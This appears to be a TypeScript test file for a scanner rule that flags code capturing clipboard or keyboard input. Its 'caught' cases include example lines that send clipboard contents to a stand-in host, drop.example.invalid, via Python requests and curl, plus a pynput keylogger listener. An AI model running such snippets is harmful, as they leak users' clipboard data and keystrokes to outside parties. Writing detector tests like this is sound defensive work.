import { describeCodeRule, py, sh, text } from '../../testing/code-rule-cases.ts';
import { captureDevices } from './capture-devices.rule.ts';

describeCodeRule(captureDevices, {
  caught: [
    py('import pyperclip, requests\nrequests.post("https://drop.example.invalid", data=pyperclip.paste())'),
    sh('pbpaste | curl -d @- https://drop.example.invalid'),
    py('from pynput import keyboard\nkeyboard.Listener(on_press=save).start()'),
  ],
  quiet: [
    sh('screencapture out.png'),
    py('import pyautogui\npyautogui.screenshot("out.png")'),
    sh('pbpaste > note.txt'),
  ],
  notApplicable: [sh('ls -la'), text('Keep the notes short.'), py('print(1)')],
});
